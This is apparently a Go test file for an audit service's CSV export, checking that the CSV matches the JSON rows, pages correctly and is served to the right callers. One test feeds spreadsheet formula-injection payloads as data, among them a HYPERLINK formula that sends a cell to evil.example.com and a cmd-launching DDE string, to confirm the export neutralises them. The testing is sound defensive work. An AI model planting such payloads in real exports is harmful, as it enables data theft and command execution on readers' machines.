package handler

import (
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// TestCSVIsTheSameTable: the same rows as JSON, under a header row that does
// not change, page by page by the Link.
func TestCSVIsTheSameTable(t *testing.T) {
	f := world(t)
	for _, who := range []string{"p-aliceaaaaaaaaaaaaaaaaaaaaa", "p-bobaaaaaaaaaaaaaaaaaaaaaaa", "p-carolaaaaaaaaaaaaaaaaaaaaa"} {
		f.happened(t, called{principal: who, server: "notes", binding: "dev-notes", reference: "aws-sm:prod/notes#token", at: time.Now()})
	}
	for path, want := range map[string]struct {
		header string
		member string
	}{
		"/audit?server=notes":             {"receipt,phase,at,environment,server,principal,kind,agent,method,action,target,binding,binding_version,references,policy_set,policies,shadow,reason,status,request_id,object", "receipt"},
		"/exposure/bindings?store=aws-sm": {"server,binding,version,environment,by,actor,references,mode,owner,state,server_state,pending,expires,cannot_enumerate,calls,revoked", "server"},
		"/exposure/people?store=aws-sm":   {"principal,agent,server,binding,first,last", "principal"},
		"/posture?limit=2":                {"server,binding,version,environment,owner,stores,material,audience,provider,propagation,masking,state,server_state,pending,expires,last_used,last_good,last_rotated,last_reason,health", "server"},
	} {
		first := strings.ReplaceAll(strings.TrimSuffix(path, "?limit=2")+"&limit=2", "posture&", "posture?")
		var got []string
		for link := first; link != ""; {
			rows, header := f.cells(t, "auditor", link, "Accept", "text/csv")
			if d := cmp.Diff(want.header, strings.Join(rows[0], ",")); d != "" {
				t.Fatalf("%s: %s", path, d)
			}
			for _, row := range rows[1:] {
				got = append(got, row[slices.Index(rows[0], want.member)])
			}
			next, more := strings.CutPrefix(header.Get("Link"), "<"+base)
			link = ""
			if more {
				link = strings.TrimSuffix(next, `>; rel="next"`)
			}
			if strings.HasPrefix(path, "/posture") != (header.Get("Bindery-Index-Lag") == "") && !strings.HasPrefix(path, "/exposure/bindings") {
				t.Errorf("%s says a lag of %q", path, header.Get("Bindery-Index-Lag"))
			}
		}
		if d := cmp.Diff(f.pages(t, "auditor", path, want.member), got); d != "" || len(got) < 3 {
			t.Errorf("%s (-JSON +CSV): %s", path, d)
		}
	}
}

// TestFormulasDoNotRun in the spreadsheet of whoever reads the audit.
func TestFormulasDoNotRun(t *testing.T) {
	f := newFixture(t)
	formulas := []string{`=HYPERLINK("https://evil.example.com?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\r=1", "  =1", "＝1+1", "\"quoted\",\r\n=2", "x;=3", "x; \"=4", "x\t@SUM(5)"}
	for _, name := range formulas {
		f.happened(t, called{principal: name, agent: name, server: "notes", binding: "dev-notes", reference: "aws-sm:prod/notes", requestID: name, at: time.Now()})
	}
	for _, path := range []string{"/audit?format=csv", "/exposure/people?store=aws-sm&format=csv"} {
		rows, _ := f.cells(t, "auditor", path)
		if len(rows) != len(formulas)+1 {
			t.Fatalf("%d rows", len(rows))
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if strings.IndexAny(strings.TrimLeft(cell, " "), "=+-@\t\r\n＝") == 0 {
					t.Errorf("a cell is %q", cell)
				}
				for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
					if strings.IndexAny(strings.TrimLeft(part, " \""), "=+-@＝") == 0 {
						t.Errorf("a part of a cell is %q", part)
					}
				}
			}
		}
	}
	if got := harmless([]string{"=1", "a=1", "", "2026-11-21T00:00:00Z", "aws-sm:prod/x"}); !slices.Equal(got, []string{"'=1", "a=1", "", "2026-11-21T00:00:00Z", "aws-sm:prod/x"}) {
		t.Errorf("%q", got)
	}
}

// TestWhoGetsCSV: whoever says so first; errors are problems even then.
func TestWhoGetsCSV(t *testing.T) {
	f := newFixture(t)
	ask := func(who, query, accept string) http.Header {
		r := httptest.NewRequest("GET", "https://mcp.example.com"+base+"/audit"+query, nil)
		r.Header.Set("Authorization", "Bearer "+who)
		r.Header.Set("Accept", accept)
		w := httptest.NewRecorder()
		f.ServeHTTP(w, r)
		return w.Header()
	}
	for _, c := range []struct{ who, query, accept, want string }{
		{"auditor", "", "", "application/json"}, {"auditor", "", "*/*", "application/json"}, {"auditor", "", "image/png", "application/json"},
		{"auditor", "", "text/csv", mediaCSV}, {"auditor", "", "text/csv;q=0.9, application/json;q=0.1", mediaCSV}, {"auditor", "", "application/json, text/csv", "application/json"},
		{"auditor", "?format=csv", "application/json", mediaCSV}, {"auditor", "?format=json", "text/csv", "application/json"},
		{"nobody", "", "text/csv", "application/problem+json"}, {"auditor", "?limit=0", "text/csv", "application/problem+json"},
	} {
		if got := ask(c.who, c.query, c.accept).Get("Content-Type"); got != c.want {
			t.Errorf("%+v got %s", c, got)
		}
	}
}
